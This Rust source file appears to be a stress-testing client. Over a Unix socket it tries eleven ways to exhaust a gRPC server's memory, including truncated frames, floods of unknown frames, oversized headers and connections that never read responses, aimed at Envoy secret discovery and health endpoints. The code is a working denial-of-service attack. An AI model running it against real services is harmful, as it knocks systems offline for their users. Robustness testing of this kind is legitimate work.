//! A client that makes a server hold as much memory as it can, by HTTP/2 frames that no library would send.

use std::{
    collections::HashMap,
    io,
    path::Path,
    sync::{
        Arc, Mutex,
        atomic::{AtomicU64, Ordering},
    },
    time::Duration,
};

use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::{
        UnixStream,
        unix::{OwnedReadHalf, OwnedWriteHalf},
    },
    sync::Notify,
    time::timeout,
};

/// Streams that are opened on one connection, as many as the agent allows.
const STREAMS: u32 = 100;
/// The payload of a frame, as long as the server allows.
const FRAME: usize = 16_384;
/// Pause after a connection that the server has closed.
const PAUSE: Duration = Duration::from_millis(20);
/// Limit for a write that the server does not read, and for a window that it does not open.
const STUCK: Duration = Duration::from_secs(15);
const STREAM_SECRETS: &str = "/envoy.service.secret.v3.SecretDiscoveryService/StreamSecrets";
const REFLECTION: &str = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo";
const HEALTH_WATCH: &str = "/grpc.health.v1.Health/Watch";

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const UNKNOWN: u8 = 0xfa;
const ACK: u8 = 1;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// A way to make the server hold memory.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Way {
    /// A request with a long version and unknown names.
    Version,
    /// A message of another service, without its last byte.
    Reflection,
    /// A message in small DATA frames with unknown frames between.
    Pinned,
    /// A message with long names, without its last byte.
    Incomplete,
    /// DATA frames of one byte with unknown frames between, on a connection that reads nothing.
    Crumbs,
    /// Calls with many headers and no message.
    Headers,
    /// A HEADERS frame without its last byte.
    PartialFrame,
    /// Complete requests with as many long names as possible.
    Names,
    /// Complete requests again and again, on a connection that reads nothing.
    Unread,
    /// Watches of the health service, on a connection that reads nothing.
    Watches,
    /// Long trailers, some of them after an incomplete message, on a connection that reads nothing.
    Trailers,
}

pub const WAYS: [Way; 11] = [
    Way::Version,
    Way::Reflection,
    Way::Pinned,
    Way::Incomplete,
    Way::Crumbs,
    Way::Headers,
    Way::PartialFrame,
    Way::Names,
    Way::Unread,
    Way::Watches,
    Way::Trailers,
];

impl Way {
    /// The way with this name, as `Debug` prints it.
    pub fn named(name: &str) -> Self {
        WAYS.into_iter().find(|way| format!("{way:?}") == name).unwrap_or_else(|| panic!("no way {name}"))
    }

    /// Whether the client reads the responses.
    fn reads(self) -> bool {
        !matches!(self, Self::Crumbs | Self::Unread | Self::Watches | Self::Trailers)
    }
}

/// The attempts so far.
#[derive(Debug, Default)]
pub struct Counts {
    pub connections: AtomicU64,
    pub streams: AtomicU64,
    pub bytes: AtomicU64,
}

/// Attacks the socket with this many connections until the future is dropped. A connection that the server closes is opened again.
pub async fn attack(socket: &Path, way: Way, connections: usize, counts: Arc<Counts>) {
    let socket: Arc<Path> = socket.into();
    let mut all = tokio::task::JoinSet::new();
    for _ in 0..connections {
        let (socket, counts) = (socket.clone(), counts.clone());
        all.spawn(async move {
            loop {
                // Every end is one that the server has chosen.
                let _ = connection(&socket, way, &counts).await;
                tokio::time::sleep(PAUSE).await;
            }
        });
    }
    all.join_next().await;
}

async fn connection(socket: &Path, way: Way, counts: &Counts) -> io::Result<()> {
    let (reader, writer) = UnixStream::connect(socket).await?.into_split();
    counts.connections.fetch_add(1, Ordering::Relaxed);
    let windows = Arc::new(Windows::default());
    let mut link = Link { writer, windows: windows.clone(), counts };
    let mut start = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    // Large windows, so that the server may send.
    start.extend(frame(SETTINGS, 0, 0, &[0, 4, 0x7f, 0xff, 0xff, 0xff]));
    link.write(&start).await?;
    if way.reads() {
        let (pongs, mut answers) = tokio::sync::mpsc::unbounded_channel();
        let reading = tokio::spawn(read(reader, windows, pongs));
        let attacked = async {
            link.run(way).await?;
            // Keeps everything until the server ends it.
            while let Some(frame) = answers.recv().await {
                link.write(&frame).await?;
            }
            Ok(())
        };
        let ended = attacked.await;
        reading.abort();
        return ended;
    }
    link.run(way).await?;
    let mut reader = reader;
    // Waits for the server without reading what it sends.
    reader.readable().await?;
    loop {
        tokio::time::sleep(Duration::from_millis(500)).await;
        link.write(&frame(PING, 0, 0, &[0; 8])).await?;
        let _ = &mut reader;
    }
}

/// The flow-control windows of a connection and its streams.
#[derive(Default)]
struct Windows {
    left: Mutex<HashMap<u32, i64>>,
    opened: Notify,
}

impl Windows {
    fn add(&self, stream: u32, more: i64) {
        *self.left.lock().unwrap().entry(stream).or_insert(65_535) += more;
        self.opened.notify_waiters();
    }

    /// Takes up to `wanted` bytes of both windows.
    async fn take(&self, stream: u32, wanted: usize) -> io::Result<usize> {
        loop {
            let opened = self.opened.notified();
            {
                let mut left = self.left.lock().unwrap();
                let both = (*left.entry(0).or_insert(65_535)).min(*left.entry(stream).or_insert(65_535));
                let some = usize::try_from(both).unwrap_or(0).min(wanted);
                if some > 0 {
                    for id in [0, stream] {
                        *left.get_mut(&id).unwrap() -= i64::try_from(some).unwrap();
                    }
                    return Ok(some);
                }
            }
            timeout(STUCK, opened).await.map_err(|_| io::ErrorKind::TimedOut)?;
        }
    }
}

async fn read(mut reader: OwnedReadHalf, windows: Arc<Windows>, pongs: tokio::sync::mpsc::UnboundedSender<Vec<u8>>) -> io::Result<()> {
    loop {
        let mut head = [0; 9];
        reader.read_exact(&mut head).await?;
        let mut payload = vec![0; usize::from(head[0]) << 16 | usize::from(head[1]) << 8 | usize::from(head[2])];
        reader.read_exact(&mut payload).await?;
        let stream = u32::from_be_bytes([head[5] & 0x7f, head[6], head[7], head[8]]);
        match (head[3], head[4] & ACK) {
            (WINDOW_UPDATE, _) => {
                windows.add(stream, i64::from(u32::from_be_bytes([payload[0] & 0x7f, payload[1], payload[2], payload[3]])));
            }
            (SETTINGS, 0) => drop(pongs.send(frame(SETTINGS, ACK, 0, &[]))),
            (PING, 0) => drop(pongs.send(frame(PING, ACK, 0, &payload))),
            _ => {}
        }
    }
}

struct Link<'a> {
    writer: OwnedWriteHalf,
    windows: Arc<Windows>,
    counts: &'a Counts,
}

impl Link<'_> {
    async fn run(&mut self, way: Way) -> io::Result<()> {
        if way == Way::PartialFrame {
            let whole = frame(HEADERS, END_HEADERS, 1, &[0; FRAME]);
            return self.write(&whole[..whole.len() - 1]).await;
        }
        for number in 0..STREAMS {
            let stream = 2 * number + 1;
            let path = match way {
                Way::Reflection => REFLECTION,
                Way::Watches => HEALTH_WATCH,
                _ => STREAM_SECRETS,
            };
            let padding = if way == Way::Headers { FRAME - 1000 } else { 0 };
            self.write(&frame(HEADERS, END_HEADERS, stream, &headers(path, padding))).await?;
            self.counts.streams.fetch_add(1, Ordering::Relaxed);
            match way {
                Way::Version => self.message(stream, &version(), 0).await?,
                Way::Reflection => self.message(stream, &field(7, &vec![b'x'; (16 << 10) - 100]), 1).await?,
                Way::Incomplete => self.message(stream, &names(2000), 1).await?,
                Way::Names => self.message(stream, &names(2000), 0).await?,
                Way::Pinned => self.between(stream, 513, 900).await?,
                Way::Crumbs => self.between(stream, 1, 60).await?,
                Way::Unread => {
                    for _ in 0..20 {
                        self.message(stream, &field(3, b"default"), 0).await?;
                    }
                }
                Way::Watches => self.message(stream, &[], 0).await?,
                Way::Trailers => {
                    if number % 2 == 0 {
                        self.message(stream, &names(20), 500).await?;
                    }
                    self.write(&frame(HEADERS, END_HEADERS | END_STREAM, stream, &fields(FRAME - 1000))).await?;
                }
                Way::Headers | Way::PartialFrame => {}
            }
        }
        Ok(())
    }

    /// Sends a message in large frames, without its last bytes.
    async fn message(&mut self, stream: u32, message: &[u8], less: usize) -> io::Result<()> {
        let framed = [&[0][..], &u32::try_from(message.len()).unwrap().to_be_bytes(), message].concat();
        let mut rest = &framed[..framed.len() - less];
        while !rest.is_empty() {
            let some = self.windows.take(stream, rest.len().min(FRAME)).await?;
            let (now, later) = rest.split_at(some);
            self.write(&frame(DATA, 0, stream, now)).await?;
            rest = later;
        }
        Ok(())
    }

    /// Sends a message that never ends in pieces of `size` bytes, each behind an unknown frame.
    async fn between(&mut self, stream: u32, size: usize, count: usize) -> io::Result<()> {
        let message = names(2000);
        let framed = [&[0][..], &(512_u32 << 10).to_be_bytes(), &message].concat();
        for piece in framed.chunks(size).take(count) {
            let mut sent = 0;
            while sent < piece.len() {
                let some = self.windows.take(stream, piece.len() - sent).await?;
                let both = [frame(UNKNOWN, 0, 0, &[0; FRAME]), frame(DATA, 0, stream, &piece[sent..sent + some])].concat();
                self.write(&both).await?;
                sent += some;
            }
        }
        Ok(())
    }

    async fn write(&mut self, bytes: &[u8]) -> io::Result<()> {
        timeout(STUCK, self.writer.write_all(bytes)).await.map_err(|_| io::Error::from(io::ErrorKind::TimedOut))??;
        self.counts.bytes.fetch_add(bytes.len() as u64, Ordering::Relaxed);
        Ok(())
    }
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// Seven bits in each byte, the lowest first: integers of Protobuf, and long integers of HPACK.
fn put_varint(out: &mut Vec<u8>, mut value: usize) {
    while value >= 128 {
        out.push(u8::try_from(value % 128).unwrap() | 0x80);
        value /= 128;
    }
    out.push(u8::try_from(value).unwrap());
}

/// A literal without indexing in HPACK (RFC 7541, section 6.2.2).
fn literal(name: &[u8], value: &[u8]) -> Vec<u8> {
    let text = |text: &[u8]| {
        let mut out = Vec::new();
        if text.len() < 127 {
            out.push(u8::try_from(text.len()).unwrap());
        } else {
            out.push(127);
            put_varint(&mut out, text.len() - 127);
        }
        out.extend_from_slice(text);
        out
    };
    [vec![0], text(name), text(value)].concat()
}

/// The header block of a call, with headers of about `padding` bytes.
fn headers(path: &str, padding: usize) -> Vec<u8> {
    // `:method: POST` and `:scheme: http`.
    let mut block = vec![0x83, 0x86];
    for (name, value) in [(":path", path), (":authority", "x"), ("content-type", "application/grpc"), ("te", "trailers")] {
        block.extend(literal(name.as_bytes(), value.as_bytes()));
    }
    block.extend(fields(padding));
    block
}

/// Further fields of a header block, together about `bytes` long.
fn fields(bytes: usize) -> Vec<u8> {
    (0..bytes / 140).flat_map(|number| literal(format!("x-{number}").as_bytes(), &[b'y'; 100])).collect()
}

/// A field with a length in Protobuf.
fn field(number: u8, value: &[u8]) -> Vec<u8> {
    let mut out = vec![number << 3 | 2];
    put_varint(&mut out, value.len());
    out.extend_from_slice(value);
    out
}

/// `resource_names`: as many as a stream may have, each of `length` bytes.
fn names(length: usize) -> Vec<u8> {
    (0..64).flat_map(|number| field(3, format!("{number:0length$}").as_bytes())).collect()
}

/// `version_info` as long as possible, and unknown names.
fn version() -> Vec<u8> {
    [field(1, &vec![b'v'; 500_000]), names(8)].concat()
}
